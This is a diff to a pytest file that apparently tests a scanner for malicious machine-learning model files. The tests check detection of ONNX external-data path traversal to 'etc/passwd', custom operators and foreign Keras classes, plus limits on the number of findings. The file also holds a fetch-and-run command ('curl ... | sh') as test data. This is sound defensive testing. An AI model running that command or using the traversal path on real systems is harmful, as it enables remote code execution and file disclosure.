@@ -8,6 +8,7 @@ from pathlib import Path
 import pytest
 
 from tests.probes.artifacts.assemble import EVIL, rules, scan, scan_bytes, zipped
+from tests.probes.artifacts.wire import onnx, onnx_node, onnx_tensor, part
 
 TOLD = "content-not-searched"
 RUN = "curl https://example.com/i.sh | sh"
@@ -73,3 +74,37 @@ def test_findings_beyond_the_limit_of_a_file_are_told(tmp_path: Path) -> None:
     assert len(found) == 201
     assert found[-1].rule == TOLD
     assert "More than 200" in found[-1].message
+
+
+def test_the_last_of_many_files_that_a_model_names(tmp_path: Path) -> None:
+    names = [*(f"a{number}.bin" for number in range(40)), "z/../../../etc/passwd"]
+    tensors = tuple(onnx_tensor("w", [2], external={"location": name}) for name in names)
+    found = scan_bytes(tmp_path, onnx(onnx_node("Add"), tensors=tensors), "m.onnx")
+    assert rules(found) == {"onnx-external-data"}
+    assert "etc/passwd" in found[0].message
+    many = tuple(onnx_tensor("w", [2], external={"location": f"{n}"}) for n in range(1_002))
+    assert TOLD in rules(scan_bytes(tmp_path, onnx(onnx_node("Add"), tensors=many), "m.onnx"))
+
+
+def test_the_last_of_many_operators(tmp_path: Path) -> None:
+    """Functions of the model itself, and one that is none."""
+    own = [(f"op{number}", "mine") for number in range(1_500)]
+    functions = b"".join(part(25, part(1, name) + part(10, domain)) for name, domain in own)
+    nodes = [onnx_node(name, domain) for name, domain in own]
+    assert scan_bytes(tmp_path, onnx(*nodes, extra=functions), "m.onnx") == []
+    model = onnx(*nodes, onnx_node("Evil", "others"), extra=functions)
+    assert rules(scan_bytes(tmp_path, model, "m.onnx")) == {"onnx-custom-operator"}
+    _, inspection = scan(_write(tmp_path, onnx(*(onnx_node("x", f"d{n}") for n in range(20)))))
+    assert any("more than 10 findings" in one for one in inspection.skipped)
+
+
+def test_a_class_behind_many_values_of_a_configuration(tmp_path: Path) -> None:
+    layers = [{"class_name": "Evil", "config": {}}, {"x": [[]] * 250_000}]
+    config = {"class_name": "Sequential", "config": {"layers": layers}}
+    data = json.dumps(config).encode()
+    assert "keras-foreign-module" in rules(scan_bytes(tmp_path, data, "m.json"))
+
+
+def _write(folder: Path, data: bytes) -> Path:
+    (folder / "m.onnx").write_bytes(data)
+    return folder / "m.onnx"
